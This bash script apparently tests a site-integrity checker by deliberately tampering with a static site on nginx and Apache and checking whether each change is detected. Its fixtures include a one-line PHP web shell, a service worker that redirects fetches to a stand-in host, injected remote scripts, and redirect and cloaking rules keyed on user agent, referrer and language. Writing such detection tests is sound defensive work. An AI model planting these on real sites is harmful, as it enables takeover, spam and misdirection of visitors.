#!/usr/bin/env bash
# Tampers with a published site on nginx and on Apache in every way that has been done to sites of agencies, and prints what
# ita verify finds of each, with times. Needs nginx and apache2 (installed if missing). Ends with 1 if something that can be
# found was not, or if an untouched site was called changed.
set -euo pipefail
cd "$(dirname "$0")/.."

ita=${ITA:-src/ItaSite/bin/Release/net10.0/ita}
missing=()
command -v nginx >/dev/null || missing+=(nginx-light)
command -v apache2 >/dev/null || missing+=(apache2)
if [ ${#missing[@]} -gt 0 ]; then
  root=(); [ "$(id -u)" -eq 0 ] || root=(sudo)
  "${root[@]}" apt-get update -qq >/dev/null
  DEBIAN_FRONTEND=noninteractive "${root[@]}" apt-get install -y -qq --no-install-recommends "${missing[@]}" >/dev/null
fi

work=$(mktemp -d)
nginx_port=${NGINX_PORT:-18480} apache_port=${APACHE_PORT:-18481}
stop() {
  for pid in "$work"/*.pid; do [ -s "$pid" ] && kill "$(cat "$pid")" 2>/dev/null || true; done
  rm -rf "$work"
}
trap stop EXIT
mkdir -p "$work/site" "$work/tmp" "$work/logs"
cp -r content themes site.config.json "$work/site"
"$ita" build "$work/site" --output "$work/site/dist" 2>/dev/null
chmod -R a+rX "$work"

# --- the hosts; both read $work/live, nginx what a case writes to rules.nginx, Apache its .htaccess ----------------------
cat > "$work/nginx.conf" <<CONF
daemon on; pid $work/nginx.pid; error_log $work/logs/nginx.log;
events { worker_connections 256; }
http {
  include /etc/nginx/mime.types; default_type application/octet-stream; access_log off;
  client_body_temp_path $work/tmp/b; proxy_temp_path $work/tmp/p; fastcgi_temp_path $work/tmp/f; uwsgi_temp_path $work/tmp/u; scgi_temp_path $work/tmp/s;
  map \$http_user_agent \$bot { default 0; ~*googlebot 1; }
  map \$http_user_agent \$phone { default 0; ~*mobile 1; }
  map \$http_referer \$searched { default 0; ~*google 1; }
  map \$http_accept_language \$foreign { default 1; ~*^th 0; }
  map "\$phone\$searched" \$both { default 0; 11 1; }
  server { listen 127.0.0.1:$nginx_port; root $work/live; charset utf-8; error_page 404 /404.html; location ~ /\\.ht { deny all; } include $work/rules.nginx; }
}
CONF
modules=/usr/lib/apache2/modules
cat > "$work/apache.conf" <<CONF
ServerRoot $work
PidFile $work/apache.pid
ErrorLog $work/logs/apache.log
Listen 127.0.0.1:$apache_port
ServerName 127.0.0.1
LoadModule mpm_event_module $modules/mod_mpm_event.so
LoadModule authz_core_module $modules/mod_authz_core.so
LoadModule dir_module $modules/mod_dir.so
LoadModule mime_module $modules/mod_mime.so
LoadModule headers_module $modules/mod_headers.so
LoadModule rewrite_module $modules/mod_rewrite.so
LoadModule filter_module $modules/mod_filter.so
LoadModule deflate_module $modules/mod_deflate.so
LoadModule substitute_module $modules/mod_substitute.so
TypesConfig /etc/mime.types
DirectoryIndex index.html
DocumentRoot $work/live
<Directory $work/live>
  AllowOverride All
  Require all granted
</Directory>
<FilesMatch "^\.ht">
  Require all denied
</FilesMatch>
CONF
[ -f /etc/mime.types ] || sed -i "s#^TypesConfig.*#TypesConfig $work/mime.types#" "$work/apache.conf"
printf 'text/html html\ntext/css css\ntext/javascript js\nimage/svg+xml svg\nimage/png png\nimage/jpeg jpg jpeg\napplication/pdf pdf\napplication/json json\napplication/xml xml\ntext/plain txt\ntext/csv csv\n' > "$work/mime.types"

fresh() { rm -rf "$work/live"; cp -r "$work/site/dist" "$work/live"; chmod -R a+rX "$work/live"; : > "$work/rules.nginx"; }
fresh
# As root Apache would take another user, who can't read a folder of root's: the user is this one.
if [ "$(id -u)" -eq 0 ]; then
  printf 'user root;\n' | cat - "$work/nginx.conf" > "$work/n" && mv "$work/n" "$work/nginx.conf"
  printf 'User www-data\nGroup www-data\n' >> "$work/apache.conf"
  chmod a+rx "$work"
fi
nginx -c "$work/nginx.conf" 2>/dev/null
apache2 -f "$work/apache.conf" -k start
sleep 1

# --- a case: its name, whether it can be found (yes, no), the codes that must be among what is said ----------------------
wrong=0
printf '%-66s %-8s %-6s %8s  %s\n' case host found seconds codes
look() {
  local name=$1 findable=$2 host=$3 port=$4 code=0 begun ended codes found
  begun=$(date +%s.%N)
  "$ita" verify "http://127.0.0.1:$port/" --site "$work/site" --format json > "$work/said.json" 2>/dev/null || code=$?
  ended=$(date +%s.%N)
  codes=$({ grep -o '"code": "ITA[0-9]*"' "$work/said.json" || true; } | { grep -o 'ITA[0-9]*' || true; } | sort | uniq -c | awk '{ printf "%s%s×%s", (NR > 1 ? " " : ""), $2, $1 }')
  found=no; [ "$code" -eq 1 ] && found=yes
  [ "$found" = "$findable" ] || { wrong=$((wrong + 1)); name="! $name"; }
  printf '%-66s %-8s %-6s %8.2f  %s\n' "$name" "$host" "$found" "$(echo "$ended $begun" | awk '{ print $1 - $2 }')" "$codes"
}
both() {
  nginx -c "$work/nginx.conf" -s reload 2>/dev/null; sleep 0.4
  look "$1" "$2" nginx "$nginx_port"
  look "$1" "$2" Apache "$apache_port"
  fresh
}
nginx_only() { nginx -c "$work/nginx.conf" -s reload 2>/dev/null; sleep 0.4; look "$1" "$2" nginx "$nginx_port"; fresh; }
apache_only() { look "$1" "$2" Apache "$apache_port"; fresh; }
live=$work/live rules=$work/rules.nginx
slot='<!DOCTYPE html><title>SLOT</title><h1>SLOT</h1>'
htaccess() { printf '%s\n' "$@" > "$work/h"; cat "$work/h" "$live/.htaccess" > "$work/h2"; mv "$work/h2" "$live/.htaccess"; chmod a+r "$live/.htaccess"; }

both "untouched" no
printf 'gzip on; gzip_types *; gzip_min_length 1;\n' > "$rules"; htaccess 'AddOutputFilterByType DEFLATE text/html text/css text/javascript application/json'
both "untouched, packed on the way (gzip)" no

mkdir "$live/x9"; echo "$slot" > "$live/x9/win.html"; sed -i 's#</main>#<a href="x9/win.html">.</a></main>#' "$live/index.html"
both "planted page that a changed page links to" yes
mkdir "$live/x9"; echo "$slot" > "$live/x9/win.html"; sed -i "s#</urlset>#<url><loc>http://127.0.0.1:$nginx_port/x9/win.html</loc></url></urlset>#" "$live/sitemap.xml"
both "planted page in the site's own sitemap" yes
mkdir "$live/x9"; echo "$slot" > "$live/x9/win.html"; printf '<urlset><url><loc>/x9/win.html</loc></url></urlset>' > "$live/news-map.xml"; echo 'Sitemap: /news-map.xml' >> "$live/robots.txt"
both "planted page in a new sitemap that robots.txt names" yes
mkdir "$live/slot"; echo "$slot" > "$live/slot/index.html"
both "planted folder of a usual name, linked by nobody" yes
mkdir "$live/k3v8q"; echo "$slot" > "$live/k3v8q/index.html"
both "planted folder of a name by chance, linked by nobody" no
echo '<?php system($_GET[1]);' > "$live/index.php"
both "planted index.php" yes
echo 'self.onfetch = e => e.respondWith(fetch("//slot.example"))' > "$live/sw.js"
both "planted service worker" yes

echo "$slot" > "$live/index.html"; grep 'robots.txt$' "$live/SHA256SUMS" > "$work/s"; cp "$work/s" "$live/SHA256SUMS"
both "defaced home page, sums cut to one line" yes
echo "$slot" > "$live/contact.html"; sum=$(sha256sum "$live/contact.html" | cut -d' ' -f1); sed -i "s#^.*  contact.html#$sum  contact.html#" "$live/SHA256SUMS"
both "defaced page, sums written anew" yes
rm "$live/SHA256SUMS"
both "sums taken away" yes
rm "$live/oit/2566/o1.html"
both "page taken away" yes
pdf=$(cd "$live" && find . -name '*.pdf' | sort | head -1); printf '%%' >> "$live/$pdf"
both "document changed by one byte" yes
sed -i 's#</head>#<script src="//stat.example/a.js"></script></head>#' "$live/contact.html"
both "script put into a page on the disk" yes
sed -i 's/$/\r/' "$live/contact.html"
both "line ends changed by FTP in text mode" yes

printf 'sub_filter "</head>" "<script src=//stat.example/a.js></script></head>"; sub_filter_once on;\n' > "$rules"
nginx -V 2>&1 | grep -q http_sub_module && nginx_only "script put into every page by the server" yes || fresh
htaccess 'AddOutputFilterByType SUBSTITUTE text/html' 'Substitute "s|</head>|<script src=//stat.example/a.js></script></head>|ni"'
apache_only "script put into every page by the server" yes
printf 'location = / { return 302 http://slot.example/; }\n' > "$rules"; htaccess 'RewriteEngine On' 'RewriteRule ^$ http://slot.example/ [R,L]'
both "the root leads to gambling, index.html does not" yes
printf 'location / { return 302 http://slot.example$request_uri; }\n' > "$rules"; htaccess 'RewriteEngine On' 'RewriteRule (.*) http://slot.example/$1 [R,L]'
both "the whole site leads to another host" yes
printf 'location = /contact.html { if ($bot) { rewrite ^ /slot.bin last; } } location = /slot.bin { default_type text/html; return 200 "SLOT"; }\n' > "$rules"
htaccess 'RewriteEngine On' 'RewriteCond %{HTTP_USER_AGENT} Googlebot [NC]' 'RewriteRule ^contact.html$ - [G]'
both "cloaking by agent: a search robot gets another page" yes
printf 'if ($searched) { return 302 http://slot.example/; }\n' > "$rules"; htaccess 'RewriteEngine On' 'RewriteCond %{HTTP_REFERER} google [NC]' 'RewriteRule .* http://slot.example/ [R,L]'
both "cloaking by referrer: who comes from Google is sent away" yes
printf 'if ($both) { return 302 http://slot.example/; }\n' > "$rules"; htaccess 'RewriteEngine On' 'RewriteCond %{HTTP_REFERER} google [NC]' 'RewriteCond %{HTTP_USER_AGENT} mobile [NC]' 'RewriteRule .* http://slot.example/ [R,L]'
both "cloaking by both: phones that come from Google" yes
printf 'if ($foreign) { return 302 http://slot.example/; }\n' > "$rules"; htaccess 'RewriteEngine On' 'RewriteCond %{HTTP:Accept-Language} !^th' 'RewriteRule .* http://slot.example/ [R,L]'
both "cloaking by language: who does not read Thai" yes
printf 'location ^~ /bonus { if ($bot) { return 200 "SLOT"; } return 404; }\n' > "$rules"; htaccess 'RewriteEngine On' 'RewriteCond %{HTTP_USER_AGENT} Googlebot [NC]' 'RewriteRule ^bonus/ contact.html [L]'
both "pages by chance for robots, below a folder that no list names" no
printf 'location ~ ^/[^/]+\\.html$ { if (!-f $request_filename) { return 200 "SLOT $uri"; } }\n' > "$rules"; htaccess 'RewriteEngine On' 'RewriteCond %{REQUEST_FILENAME} !-f' 'RewriteRule ^[^/]+\.html$ x9.bin [L,T=text/html]'; echo SLOT > "$live/x9.bin"
both "a page for any address" yes
printf 'geo $far { default 0; 10.0.0.0/8 1; }\n' > /dev/null; printf 'if ($remote_addr ~ "^10\\.") { return 302 http://slot.example/; }\n' > "$rules"; htaccess 'RewriteEngine On' 'RewriteCond %{REMOTE_ADDR} ^10\.' 'RewriteRule .* http://slot.example/ [R,L]'
both "cloaking by the visitor's address" no
printf 'if ($time_iso8601 ~ "T(02|03)") { return 302 http://slot.example/; }\n' > "$rules"; htaccess 'RewriteEngine On' "RewriteCond %{TIME_HOUR} =$(date -d '+5 hours' +%H)" 'RewriteRule .* http://slot.example/ [R,L]'
[ "$(date +%H)" = 02 ] || [ "$(date +%H)" = 03 ] || both "cloaking by the time of day, at another time" no
fresh

printf 'add_header Content-Security-Policy "script-src *";\n' > "$rules"; sed -i 's#Content-Security-Policy "[^"]*"#Content-Security-Policy "script-src *"#' "$live/.htaccess"
both "weakened security policy" yes
sed -i '/X-Content-Type-Options/d' "$live/_headers"; sed -i 's#nosniff##' "$live/web.config"; echo '# x' >> "$live/.htaccess"
both "changed _headers and web.config (both hosts serve them)" yes
echo '# x' >> "$live/.htaccess"
both "changed .htaccess without an effect, kept back by the host" no
printf 'location = /about.html { return 403; }\n' > "$rules"; htaccess '<Files about.html>' 'Require all denied' '</Files>'
both "one page is refused (403)" yes

echo "$wrong wrong"
[ "$wrong" -eq 0 ]
